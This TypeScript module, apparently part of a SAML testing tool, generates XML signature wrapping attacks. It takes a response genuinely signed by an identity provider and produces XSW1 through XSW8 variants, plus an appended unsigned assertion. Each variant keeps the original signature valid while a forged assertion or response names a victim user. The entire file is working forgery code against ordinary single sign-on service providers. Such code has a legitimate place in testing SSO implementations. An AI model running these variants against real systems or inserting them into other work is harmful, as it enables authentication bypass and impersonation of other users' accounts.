import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * XML signature wrapping (XSW), after Somorovsky et al., "On Breaking SAML" (2012): a response the
 * IdP really signed, for the attacker, rearranged so that the signature still checks over the
 * original while a second, unsigned assertion (or response) naming the victim sits where a careless
 * reader looks. Each variant returns the rearranged response as XML.
 */
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';

type Variant = (signed: string, victim: string) => string;

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const serialize = (node: Node) => new XMLSerializer().serializeToString(node);
const child = (parent: Element, ns: string, name: string): Element | undefined => Array.from(parent.childNodes).find((n): n is Element => n.nodeType === 1 && (n as Element).localName === name && (n as Element).namespaceURI === ns);

/** A copy of `element` naming the victim, with another ID and without its own signature. */
function evil(element: Element, victim: string, id = '_evil'): Element {
  const copy = element.cloneNode(true) as Element;
  copy.setAttribute('ID', id);
  const signature = child(copy, DSIG, 'Signature');
  if (signature) copy.removeChild(signature);
  const assertion = copy.localName === 'Assertion' ? copy : child(copy, SAML, 'Assertion');
  const subject = assertion && child(assertion, SAML, 'Subject');
  const nameId = subject && child(subject, SAML, 'NameID');
  if (nameId) nameId.textContent = victim;
  for (const value of Array.from(copy.getElementsByTagNameNS(SAML, 'AttributeValue'))) value.textContent = victim;
  return copy;
}

const withoutSignature = (element: Element): Element => {
  const copy = element.cloneNode(true) as Element;
  const signature = child(copy, DSIG, 'Signature');
  if (signature) copy.removeChild(signature);
  return copy;
};

/** The response signed as a whole: XSW1 and XSW2 wrap the original response inside or beside a forged one. */
export const RESPONSE_VARIANTS: Record<string, Variant> = {
  'XSW1: forged response, the signed original inside its Signature': (signed, victim) => {
    const doc = parse(signed);
    const original = doc.documentElement!;
    const forged = evil(original, victim);
    const signature = child(original, DSIG, 'Signature')!.cloneNode(true) as Element;
    signature.appendChild(withoutSignature(original));
    forged.insertBefore(signature, child(forged, SAMLP, 'Status') ?? null);
    return serialize(forged);
  },
  'XSW2: forged response, the signed original beside its Signature': (signed, victim) => {
    const doc = parse(signed);
    const original = doc.documentElement!;
    const forged = evil(original, victim);
    const signature = child(original, DSIG, 'Signature')!.cloneNode(true) as Element;
    forged.insertBefore(withoutSignature(original), child(forged, SAMLP, 'Status') ?? null);
    forged.insertBefore(signature, child(forged, SAMLP, 'Status') ?? null);
    return serialize(forged);
  },
};

/** The assertion signed: XSW3-XSW8 put a forged assertion before, around, beside or instead of it. */
export const ASSERTION_VARIANTS: Record<string, Variant> = {
  'XSW3: forged assertion before the signed one': (signed, victim) => {
    const doc = parse(signed);
    const assertion = child(doc.documentElement!, SAML, 'Assertion')!;
    doc.documentElement!.insertBefore(evil(assertion, victim), assertion);
    return serialize(doc);
  },
  'XSW3, same ID: forged assertion with the signed one\'s ID before it': (signed, victim) => {
    const doc = parse(signed);
    const assertion = child(doc.documentElement!, SAML, 'Assertion')!;
    doc.documentElement!.insertBefore(evil(assertion, victim, assertion.getAttribute('ID')!), assertion);
    return serialize(doc);
  },
  'XSW4: forged assertion wrapped around the signed one': (signed, victim) => {
    const doc = parse(signed);
    const assertion = child(doc.documentElement!, SAML, 'Assertion')!;
    const forged = evil(assertion, victim);
    forged.appendChild(assertion.cloneNode(true));
    doc.documentElement!.replaceChild(forged, assertion);
    return serialize(doc);
  },
  'XSW5: forged assertion carrying the signature, the original after it': (signed, victim) => {
    const doc = parse(signed);
    const assertion = child(doc.documentElement!, SAML, 'Assertion')!;
    const forged = evil(assertion, victim);
    forged.insertBefore(child(assertion, DSIG, 'Signature')!.cloneNode(true), child(forged, SAML, 'Subject') ?? null);
    doc.documentElement!.replaceChild(forged, assertion);
    doc.documentElement!.appendChild(withoutSignature(assertion));
    return serialize(doc);
  },
  'XSW6: forged assertion carrying the signature, the original inside it': (signed, victim) => {
    const doc = parse(signed);
    const assertion = child(doc.documentElement!, SAML, 'Assertion')!;
    const forged = evil(assertion, victim);
    const signature = child(assertion, DSIG, 'Signature')!.cloneNode(true) as Element;
    signature.appendChild(withoutSignature(assertion));
    forged.insertBefore(signature, child(forged, SAML, 'Subject') ?? null);
    doc.documentElement!.replaceChild(forged, assertion);
    return serialize(doc);
  },
  'XSW7: the signed assertion hidden in Extensions, a forged one in its place': (signed, victim) => {
    const doc = parse(signed);
    const assertion = child(doc.documentElement!, SAML, 'Assertion')!;
    const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
    extensions.appendChild(assertion.cloneNode(true));
    doc.documentElement!.replaceChild(evil(assertion, victim), assertion);
    doc.documentElement!.insertBefore(extensions, child(doc.documentElement!, SAMLP, 'Status') ?? null);
    return serialize(doc);
  },
  'XSW8: forged assertion whose Signature holds the original in an Object': (signed, victim) => {
    const doc = parse(signed);
    const assertion = child(doc.documentElement!, SAML, 'Assertion')!;
    const forged = evil(assertion, victim);
    const signature = child(assertion, DSIG, 'Signature')!.cloneNode(true) as Element;
    const object = doc.createElementNS(DSIG, 'ds:Object');
    object.appendChild(withoutSignature(assertion));
    signature.appendChild(object);
    forged.insertBefore(signature, child(forged, SAML, 'Subject') ?? null);
    doc.documentElement!.replaceChild(forged, assertion);
    return serialize(doc);
  },
  'a second, unsigned assertion after the signed one': (signed, victim) => {
    const doc = parse(signed);
    const assertion = child(doc.documentElement!, SAML, 'Assertion')!;
    doc.documentElement!.appendChild(evil(assertion, victim));
    return serialize(doc);
  },
};
